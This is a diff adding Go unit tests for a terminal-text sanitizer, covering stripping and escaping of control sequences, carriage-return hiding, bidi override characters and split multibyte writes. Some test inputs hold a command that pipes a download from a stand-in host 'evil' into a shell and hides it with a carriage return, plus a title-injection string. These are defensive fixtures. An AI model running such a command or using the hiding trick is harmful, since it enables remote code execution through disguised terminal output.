@@ -1,0 +1,80 @@
+package termtext
+
+import (
+	"bytes"
+	"testing"
+)
+
+func TestStripRemovesWhatATerminalWouldActOn(t *testing.T) {
+	tests := []struct {
+		name, in, want string
+	}{
+		{"plain text", "ls -la\n\tok", "ls -la\n\tok"},
+		{"carriage return that hides text", "curl evil|sh #\rls -la", "curl evil|sh #ls -la"},
+		{"erase line", "a\x1b[2Kb", "a[2Kb"},
+		{"window title", "x\x1b]0;pwned\x07y", "x]0;pwnedy"},
+		{"C1 CSI", "a\u009b2Kb", "a2Kb"},
+		{"DEL and backspace", "a\x7fb\bc", "abc"},
+		{"invalid UTF-8, a raw 0x9b", "a\x9b2Kb", "a\uFFFD2Kb"},
+		{"other scripts kept", "héllo 日本 \u202e", "héllo 日本 \u202e"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			if got := Strip(tc.in); got != tc.want {
+				t.Errorf("Strip(%q) = %q, want %q", tc.in, got, tc.want)
+			}
+		})
+	}
+}
+
+func TestEscapeMakesControlsVisible(t *testing.T) {
+	tests := []struct {
+		in, want string
+		n        int
+	}{
+		{"echo hi\n\tdone", "echo hi\n\tdone", 0},
+		{"curl evil|sh #\r\x1b[2Kls -la", `curl evil|sh #\r\x1b[2Kls -la`, 2},
+		{"t\x1b]0;x\x07", `t\x1b]0;x\a`, 2},
+		{"a\u009bb\x00", `a\u009bb\x00`, 2},
+		{"abc\u202edef", `abc\u202edef`, 1},
+		{"日本", "日本", 0},
+	}
+	for _, tc := range tests {
+		got, n := Escape(tc.in)
+		if got != tc.want || n != tc.n {
+			t.Errorf("Escape(%q) = %q, %d; want %q, %d", tc.in, got, n, tc.want, tc.n)
+		}
+	}
+}
+
+func TestWriterStripsAcrossWrites(t *testing.T) {
+	var out bytes.Buffer
+	w := NewWriter(&out)
+	// U+009B (C2 9B) and 日 (E6 97 A5) split between writes; ESC [ 2 K
+	// split too (the ESC goes, the rest is text).
+	for _, piece := range []string{"a\xc2", "\x9bb\x1b", "[2K\xe6\x97", "\xa5\r\n", "z\xe6"} {
+		n, err := w.Write([]byte(piece))
+		if err != nil || n != len(piece) {
+			t.Fatalf("Write(%q) = %d, %v", piece, n, err)
+		}
+	}
+	if err := w.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	if got, want := out.String(), "ab[2K日\nz\uFFFD"; got != want {
+		t.Fatalf("wrote %q, want %q", got, want)
+	}
+}
+
+func TestIsBidi(t *testing.T) {
+	for _, r := range []rune{0x061c, 0x200e, 0x200f, 0x202a, 0x202e, 0x2066, 0x2069} {
+		if !IsBidi(r) {
+			t.Errorf("IsBidi(%U) = false", r)
+		}
+	}
+	for _, r := range []rune{'a', 0x200b, 0x2029, 0x206a, 0x05d0} {
+		if IsBidi(r) {
+			t.Errorf("IsBidi(%U) = true", r)
+		}
+	}
+}
